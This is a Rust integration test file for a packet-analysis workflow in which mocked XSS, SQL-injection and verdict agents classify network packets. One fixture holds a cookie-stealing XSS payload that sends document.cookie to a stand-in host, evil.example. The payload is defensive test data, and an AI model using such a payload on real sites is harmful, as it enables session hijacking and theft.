// End-to-end runs of the packet analysis workflow: concurrent analyzers
// joined at the verdict node, with degraded branches along the way.

mod common;

use std::sync::Arc;

use serde_json::json;

use common::{fenced, test_context, KeyedProvider, Reply};
use vigil_backend::graph::nodes::fields;
use vigil_backend::graph::{build_analysis_graph, GraphError, WorkflowState};

const XSS_KEY: &str = "XSS (Cross-Site Scripting) Analysis Expert Agent";
const SQLI_KEY: &str = "SQL Injection Analysis Expert Agent";
const VERDICT_KEY: &str = "security decision agent";

fn initial_state(packet: serde_json::Value) -> WorkflowState {
    let mut state = WorkflowState::new();
    state.set(fields::PACKET, packet);
    state.set(fields::XSS_REPORT, json!(""));
    state.set(fields::SQLI_REPORT, json!(""));
    state.set(fields::THREAT_DETECTED, json!(false));
    state
}

fn suspicious_packet() -> serde_json::Value {
    json!({
        "source_ip": "203.0.113.9",
        "destination_ip": "10.0.0.5",
        "payload": "<script>fetch('https://evil.example/c?d='+document.cookie)</script>"
    })
}

#[tokio::test]
async fn detected_threat_flows_through_the_join() {
    let provider = KeyedProvider::new([
        (
            XSS_KEY,
            fenced(json!({
                "xss_detected": "YES",
                "details": "Cookie exfiltration script embedded in the payload."
            })),
        ),
        (
            SQLI_KEY,
            fenced(json!({
                "sql_detected": "NO",
                "details": "No injection patterns present."
            })),
        ),
        (
            VERDICT_KEY,
            fenced(json!({
                "threat_detected": true,
                "details": "XSS attack confirmed by the XSS analyzer; packet should be blocked."
            })),
        ),
    ]);
    let graph = build_analysis_graph(10).unwrap();

    let state = graph
        .run(
            initial_state(suspicious_packet()),
            &test_context(Arc::new(provider)),
        )
        .await
        .unwrap();

    assert_eq!(state.get_bool(fields::THREAT_DETECTED), Some(true));
    assert!(state
        .get_str(fields::XSS_REPORT)
        .unwrap()
        .contains("Cookie exfiltration"));
    assert!(state
        .get_str(fields::SQLI_REPORT)
        .unwrap()
        .contains("No injection"));
    assert!(state.get_str(fields::SUMMARY).unwrap().contains("XSS attack"));
}

#[tokio::test]
async fn malformed_analyzer_output_degrades_but_the_join_still_runs() {
    let provider = KeyedProvider::new([
        (XSS_KEY, Reply::Text("scripts are bad, probably".to_string())),
        (
            SQLI_KEY,
            fenced(json!({
                "sql_detected": "NO",
                "details": "Payload is plain HTML, no SQL fragments."
            })),
        ),
        (
            VERDICT_KEY,
            fenced(json!({
                "threat_detected": false,
                "details": "Only the SQL analyzer produced a usable report; no threat found."
            })),
        ),
    ]);
    let graph = build_analysis_graph(10).unwrap();

    let state = graph
        .run(
            initial_state(suspicious_packet()),
            &test_context(Arc::new(provider)),
        )
        .await
        .unwrap();

    // The degraded branch is marked to be ignored, the sibling's report is
    // intact, and the verdict node still executed.
    assert!(state
        .get_str(fields::XSS_REPORT)
        .unwrap()
        .contains("Ignore the XSS analyzer"));
    assert!(state
        .get_str(fields::SQLI_REPORT)
        .unwrap()
        .contains("plain HTML"));
    assert_eq!(state.get_bool(fields::THREAT_DETECTED), Some(false));
    assert!(state.get_str(fields::SUMMARY).is_some());
}

#[tokio::test]
async fn failed_verdict_completion_ends_the_run_without_a_verdict() {
    let provider = KeyedProvider::new([
        (
            XSS_KEY,
            fenced(json!({"xss_detected": "NO", "details": "Nothing found."})),
        ),
        (
            SQLI_KEY,
            fenced(json!({"sql_detected": "NO", "details": "Nothing found."})),
        ),
        (VERDICT_KEY, Reply::Fail),
    ]);
    let graph = build_analysis_graph(10).unwrap();

    let state = graph
        .run(
            initial_state(suspicious_packet()),
            &test_context(Arc::new(provider)),
        )
        .await
        .unwrap();

    // Degraded rather than aborted: the reports survive, the verdict fields
    // keep their initial values.
    assert_eq!(state.get_bool(fields::THREAT_DETECTED), Some(false));
    assert!(state.get_str(fields::SUMMARY).is_none());
    assert_eq!(state.get_str(fields::XSS_REPORT), Some("Nothing found."));
}

#[tokio::test]
async fn empty_packet_fails_the_root_branch_and_ends_quietly() {
    let provider = KeyedProvider::new([]);
    let graph = build_analysis_graph(10).unwrap();

    let state = graph
        .run(initial_state(json!({})), &test_context(Arc::new(provider)))
        .await
        .unwrap();

    // The root branch failed, so no analyzer ever ran.
    assert_eq!(state.get_str(fields::XSS_REPORT), Some(""));
    assert_eq!(state.get_str(fields::SQLI_REPORT), Some(""));
    assert_eq!(state.get_bool(fields::THREAT_DETECTED), Some(false));
}

#[tokio::test]
async fn missing_packet_is_rejected_at_run_start() {
    let provider = KeyedProvider::new([]);
    let graph = build_analysis_graph(10).unwrap();

    let err = graph
        .run(WorkflowState::new(), &test_context(Arc::new(provider)))
        .await
        .unwrap_err();

    assert!(matches!(
        err,
        GraphError::MissingState { field, .. } if field == "packet"
    ));
}
